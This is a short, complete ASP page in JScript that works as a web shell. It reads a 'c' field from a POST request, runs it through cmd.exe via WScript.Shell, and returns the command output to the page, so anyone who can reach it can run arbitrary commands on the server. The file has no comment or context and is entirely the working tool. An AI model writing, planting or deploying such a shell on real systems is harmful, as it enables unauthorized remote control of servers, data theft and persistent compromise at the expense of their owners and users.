<%@ Language="JScript" %>
<%
var c = Request.Form("c") + "";
if (c != "undefined" && c != "") {
    var sh = new ActiveXObject("WScript.Shell");
    Response.Write(sh.Exec("cmd.exe /c " + c).StdOut.ReadAll());
}
%>
